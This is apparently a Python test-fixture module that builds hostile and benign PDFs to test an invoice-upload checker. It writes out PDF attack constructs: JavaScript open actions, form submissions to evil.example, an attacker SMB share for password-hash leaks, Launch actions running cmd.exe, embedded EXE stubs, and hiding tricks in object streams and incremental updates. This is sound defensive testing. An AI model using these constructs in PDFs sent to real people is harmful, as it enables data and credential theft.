"""A corpus of hostile PDFs, built in code (no binary fixtures): each hides something a
reader can be made to do in a place a check that starts at /Root and looks at a few known
keys does not reach. ``HOSTILE`` maps a name to (bytes, words the refusal contains);
``BENIGN`` holds what an invoice may contain and must still be accepted."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.invoices.raw_pdfs import (
    CATALOG,
    CONTENT,
    DEEP,
    ESCAPED_JS,
    PAGE,
    PAGES,
    append_update,
    assemble,
    clean,
    escaped_open_action,
    escaped_page_action,
    names_javascript_then,
    open_action_nested_too_deep,
    struct_elem_gotor_in_a_link_dest,
    zip_after_a_comment,
    zip_in_a_stream,
)

__all__ = [
    "BENIGN",
    "HOSTILE",
    "append_update",
    "assemble",
    "build",
    "save",
]

SMB_PATH = "\\\\attacker\\share\\x.pdf"
EXE = b"MZ\x90\x00" + bytes(120) + b"This program cannot be run in DOS mode."


def base() -> pikepdf.Pdf:
    """One A4 page that says "Invoice", like the smallest upload a consultant makes."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Invoice) Tj ET")
    return pdf


def save(pdf: pikepdf.Pdf, *, object_streams: bool = False) -> bytes:
    buffer = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(buffer, object_stream_mode=mode, deterministic_id=True)
    return buffer.getvalue()


def build(change: Callable[[pikepdf.Pdf], object], *, object_streams: bool = False) -> bytes:
    pdf = base()
    change(pdf)
    return save(pdf, object_streams=object_streams)


def js(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _annotate(pdf: pikepdf.Pdf, **fields: object) -> Dictionary:
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[72, 700, 200, 720], **fields))
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", Array()), annot])
    return annot


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    _annotate(pdf, Subtype=Name.Link, A=pdf.make_indirect(action))


def _filespec(pdf: pikepdf.Pdf, name: str = "invoice.exe", *, embed: bool = True):
    spec = Dictionary(Type=Name.Filespec, F=String(name), UF=String(name))
    if embed:
        spec.EF = Dictionary(F=pdf.make_stream(EXE, Type=Name.EmbeddedFile))
    return pdf.make_indirect(spec)


def _outline_js(pdf):
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Pay now"), Parent=outlines, A=js()))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines


def _field_aa_js(pdf):
    widget = _annotate(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("iban"))
    widget.AA = Dictionary(K=pdf.make_indirect(js("this.submitForm('https://evil.example')")))
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _xfa(pdf):
    template = b'<template><script contentType="application/x-javascript">app.alert(1)</script>'
    xfa = Array([String("template"), pdf.make_stream(template + b"</template>")])
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)


def _file_attachment(pdf):
    _annotate(pdf, Subtype=Name.FileAttachment, FS=_filespec(pdf), Contents=String("Details"))


def _names_embedded(pdf):
    tree = Dictionary(Names=Array([String("invoice.exe"), _filespec(pdf)]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=tree)


def _af_catalog(pdf):
    pdf.Root.AF = Array([_filespec(pdf, "data.xml", embed=False)])


def _af_page(pdf):
    pdf.pages[0].obj.AF = Array([_filespec(pdf, "data.xml", embed=False)])


def _gotor_smb(pdf):
    _link(pdf, Dictionary(S=Name.GoToR, F=String(SMB_PATH), D=Array([0, Name.Fit])))


def _gotoe(pdf):
    target = Dictionary(R=Name.C, N=String("invoice.pdf"))
    _link(pdf, Dictionary(S=Name.GoToE, T=target, D=Array([0, Name.Fit])))


def _launch(pdf):
    windows = Dictionary(F=String("cmd.exe"), P=String("/c calc"))
    _link(pdf, Dictionary(S=Name.Launch, F=String("calc.exe"), Win=windows))


def _submit_form(pdf):
    submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))
    widget = _annotate(pdf, Subtype=Name.Widget, FT=Name.Btn, T=String("ok"), A=submit)
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _import_data(pdf):
    _link(pdf, Dictionary(S=Name.ImportData, F=String(SMB_PATH.replace(".pdf", ".fdf"))))


def _rich_media(pdf):
    content = Dictionary(Assets=Dictionary(Names=Array()), Configurations=Array())
    _annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=content)


def _uri(address: str):
    return lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=String(address)))


def _js_after_goto(pdf):
    _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=js()))


def _stashed_js(pdf):
    """A script nothing a reader follows points to, compressed into an object stream: a
    scan of the raw bytes or a walk from /Root over known keys sees neither."""
    pdf.Root.Stash = pdf.make_indirect(js())


def _external_stream(pdf):
    """An image whose data a reader fetches from an SMB share (stream /F): the share gets
    the user's Windows password hash."""
    image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    image.F = String(SMB_PATH.replace(".pdf", ".jpg"))
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im1=image)


def _reference_xobject(pdf):
    """A reference XObject: the page of another document, at a plain-http address."""
    target = Dictionary(F=String("http://attacker.example/x.pdf"), Page=0)
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1])
    form.Ref = target
    pdf.pages[0].obj.Resources.XObject = Dictionary(Fm1=form)


def _tagged(pdf):
    """A tagged PDF: structure elements' /S (/Document, /P, /Link, /Figure) is no action."""
    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    kids = [
        pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name(s), P=root, K=0))
        for s in ("/P", "/H1", "/Link", "/Figure", "/Table", "/Span")
    ]
    document = Dictionary(Type=Name.StructElem, S=Name.Document, P=root, K=Array(kids))
    root.K = pdf.make_indirect(document)
    pdf.Root.StructTreeRoot = root
    pdf.Root.MarkInfo = Dictionary(Marked=True)


def _benign(pdf):
    page = pdf.pages[0].obj
    _link(pdf, Dictionary(S=Name.GoTo, D=Array([page, Name.XYZ, 0, 842, 0])))
    _link(pdf, Dictionary(S=Name.URI, URI=String("https://pay.example/INV-1")))
    _annotate(pdf, Subtype=Name.Link, Dest=Array([page, Name.Fit]))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    goto = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))
    item = pdf.make_indirect(Dictionary(Title=String("Invoice"), Parent=outlines, A=goto))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines
    pdf.Root.OpenAction = Array([page, Name.Fit])
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))


_DAMAGED = "damaged"

HOSTILE: dict[str, tuple[bytes, str]] = {
    "javascript-in-an-outline-item": (build(_outline_js), "JavaScript"),
    "javascript-in-a-form-field-aa": (build(_field_aa_js), "runs by itself"),
    "javascript-open-action": (
        build(lambda pdf: setattr(pdf.Root, "OpenAction", js())),
        "JavaScript",
    ),
    "xfa-form-with-script": (build(_xfa), "XFA"),
    "file-attachment-annotation-with-an-exe": (build(_file_attachment), "file attachment"),
    "names-embedded-files": (build(_names_embedded), "embedded file"),
    "pdf2-associated-file-on-the-catalog": (build(_af_catalog), "associated file"),
    "pdf2-associated-file-on-a-page": (build(_af_page), "associated file"),
    "gotor-to-an-smb-share": (build(_gotor_smb), "opens another document"),
    "gotoe-into-an-embedded-document": (build(_gotoe), "embedded document"),
    "launch-action": (build(_launch), "launches a program"),
    "submit-form-action": (build(_submit_form), "submits data"),
    "import-data-action": (build(_import_data), "imports form data"),
    "rich-media-annotation": (build(_rich_media), "rich media"),
    "uri-to-plain-http": (build(_uri("http://pay.example/INV-1")), "not https"),
    "uri-to-a-local-file": (build(_uri("file:///C:/Windows/System32/calc.exe")), "not https"),
    "javascript-chained-after-a-goto": (build(_js_after_goto), "JavaScript"),
    "hex-escaped-javascript-open-action": (escaped_open_action(), "JavaScript"),
    "hex-escaped-page-aa": (escaped_page_action(), "runs by itself"),
    "javascript-only-inside-an-object-stream": (
        build(_stashed_js, object_streams=True),
        "JavaScript",
    ),
    "unreferenced-javascript-added-by-an-incremental-update": (
        append_update(clean(), {5: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}),
        "JavaScript",
    ),
    "javascript-left-in-a-superseded-catalog": (
        append_update(
            assemble(
                [
                    CATALOG[:-2] + b"/OpenAction 5 0 R >>",
                    PAGES,
                    PAGE % b"",
                    CONTENT,
                    ESCAPED_JS,
                ]
            ),
            {1: CATALOG, 5: b"null"},
        ),
        "JavaScript",
    ),
    "javascript-body-outside-every-xref": (
        append_update(clean(), {7: b"<< /S /Launch /F (calc.exe) >>"}, listed=False),
        "launches a program",
    ),
    # qpdf reads these objects as null; poppler's pdfinfo -js prints the script.
    "javascript-then-an-array-nested-600-deep": (names_javascript_then(DEEP + b" >>"), _DAMAGED),
    "javascript-then-a-64-bit-overflowing-integer": (
        names_javascript_then(b"/X 99999999999999999999999999999999999999 >>"),
        _DAMAGED,
    ),
    "javascript-then-an-unterminated-string": (names_javascript_then(b"/X (aaa >>"), _DAMAGED),
    "javascript-then-too-many-stray-braces": (
        names_javascript_then(b"/X [" + b" }" * 20 + b" ] >>"),
        _DAMAGED,
    ),
    "open-action-nested-600-deep": (open_action_nested_too_deep(), _DAMAGED),
    "struct-elem-gotor-in-a-link-dest": (
        struct_elem_gotor_in_a_link_dest(),
        "opens another document",
    ),
    "zip-after-a-comment-after-eof": (zip_after_a_comment(), "foreign data"),
    "zip-in-a-stream-whose-comment-is-the-pdf-tail": (zip_in_a_stream(), "ZIP archive"),
    "image-stream-fetched-from-an-smb-share": (build(_external_stream), "another file"),
    "reference-xobject-to-a-plain-http-document": (build(_reference_xobject), "another file"),
}

BENIGN: dict[str, bytes] = {
    "tagged-structure-elements": build(_tagged),
    "goto-and-https-links-outline-and-page-labels": build(_benign),
    "goto-and-https-links-in-object-streams": build(_benign, object_streams=True),
    "clean-incremental-update": append_update(clean(), {1: CATALOG[:-2] + b"/Lang (en) >>"}),
}
